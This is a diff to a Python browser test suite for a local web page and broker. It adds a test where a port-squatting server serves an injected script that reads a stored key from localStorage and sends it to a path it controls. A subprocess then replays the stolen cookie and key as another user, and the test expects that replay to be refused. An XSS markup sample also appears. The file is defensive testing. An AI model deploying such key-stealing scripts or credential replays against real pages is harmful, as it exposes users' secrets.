@@ -1,10 +1,12 @@
-"""The page in a real browser: what a person does there, and how it looks. Screenshots go to $MPB_SCREENSHOTS."""
+"""The page in a real browser: what a person does there, and how it looks. tests/pictures.py keeps screenshots."""
 
 from __future__ import annotations
 
 import itertools
 import json
 import os
+import subprocess
+import sys
 import tempfile
 import threading
 from collections.abc import Iterator
@@ -17,10 +19,21 @@ import pytest
 
 from tests.browser import Browser, find_browser
 from tests.harness import World, eventually
+from tests.pictures import pictures
 
 pytestmark = [pytest.mark.engine, pytest.mark.xdist_group("page")]  # one world and one browser for all
 
-VARIABLE = "MPB_SCREENSHOTS"
+NOBODY = 65534
+STEALING = b"<script>fetch('/page/stolen?' + localStorage.getItem('mempalace-page-key'))</script>"
+ASK = """
+import encodings.idna, http.client, os, sys  # all of them before it is another user
+port, uid, cookie, key = sys.argv[1:]
+os.setuid(int(uid))
+for path in ("/page/status", "/page/proof?0"):
+    connection = http.client.HTTPConnection("127.0.0.1", int(port), timeout=20)
+    connection.request("GET", path, headers={"Cookie": cookie, "Authorization": f"Page {key}"})
+    print(connection.getresponse().status)
+"""
 SHOWN = "!document.getElementById('main').hidden"
 MARKUP = "<img src=x onerror=\"document.title='owned'\"><script>document.title='owned'</script>"
 
@@ -144,15 +157,24 @@ def test_it_says_when_the_broker_is_gone(world: World, page: Browser) -> None:
 
 
 class Squatter(BaseHTTPRequestHandler):
-    """Another user's program on the broker's port. `shown`: what it got to see."""
+    """Another user's program on the broker's port.
+
+    Attributes:
+        shown: the keys that it got to see. cookies: the same. stolen: what its own page sent it.
+    """
 
     shown: ClassVar[list[str | None]] = []
+    cookies: ClassVar[list[str]] = []
+    stolen: ClassVar[list[str]] = []
 
     def do_GET(self) -> None:
         self.shown.append(self.headers["Authorization"])
+        self.cookies.extend(filter(None, [self.headers["Cookie"]]))
+        self.stolen.extend([self.path.partition("?")[2]] if self.path.startswith("/page/stolen") else [])
         self.send_response(200)
+        self.send_header("Content-Type", "text/html")
         self.end_headers()
-        self.wfile.write(b"0" * 64)
+        self.wfile.write(STEALING if self.path == "/" else b"0" * 64)
 
     def log_message(self, *_: object) -> None:
         """Say nothing."""
@@ -169,6 +191,33 @@ def test_whoever_takes_its_port_gets_no_key(world: World, page: Browser) -> None
     assert set(Squatter.shown) == {None}
     assert world.cli("ensure").returncode == 0
     page.until("document.getElementById('notice').hidden")
+    page.problems.clear()
+
+
+def asked_by(uid: int, port: int) -> list[str]:
+    """What a program of that user is answered to what the squatter got."""
+    argv = [sys.executable, "-c", ASK, str(port), str(uid), Squatter.cookies[-1], Squatter.stolen[-1]]
+    return subprocess.run(argv, check=True, capture_output=True, text=True, timeout=30).stdout.split()
+
+
+def test_what_the_page_gives_to_whoever_took_its_port_is_of_no_use_to_another_user(world: World, page: Browser) -> None:
+    """Loaded again, it sends the cookie, and the other user's script reads the key."""
+    port = urlsplit(link(world)).port or 0
+    assert world.cli("stop").returncode == 0
+    Squatter.cookies.clear()
+    with HTTPServer(("127.0.0.1", port), Squatter) as server:
+        threading.Thread(target=server.serve_forever, daemon=True).start()
+        page.call("Page.reload")
+        eventually(lambda: Squatter.stolen, what="the key, read by a script of the same origin")
+        page.go("about:blank")
+        server.shutdown()
+    assert world.cli("ensure").returncode == 0
+    assert urlsplit(link(world)).port == port, "the same port, so that the cookie would count"
+    assert asked_by(os.geteuid(), port) == ["200", "200"], "our own programs may read all that we may"
+    if os.geteuid() == 0 and Path("/proc/net/tcp").exists():
+        assert asked_by(NOBODY, port) == ["403", "403"]
+    page.go(link(world))
+    page.until(SHOWN)
     page.problems.clear()
 
 
@@ -195,9 +244,7 @@ def test_how_it_looks(page: Browser, tmp_path: Path, width: int, dark: bool) -> 
     page.until("document.querySelectorAll('#results li').length")
     assert page.evaluate("document.documentElement.scrollWidth <= innerWidth"), "nothing sticks out"
     assert page.evaluate(CONTRASTS) == [], "all text can be read"
-    folder = Path(os.environ.get(VARIABLE) or tmp_path)
-    folder.mkdir(parents=True, exist_ok=True)
-    picture = folder / f"page-{width}-{'dark' if dark else 'light'}.png"
+    picture = pictures(tmp_path) / f"page-{width}-{'dark' if dark else 'light'}.png"
     page.screenshot(picture)
     eventually(lambda: picture.stat().st_size > 20_000, what="a picture")
 
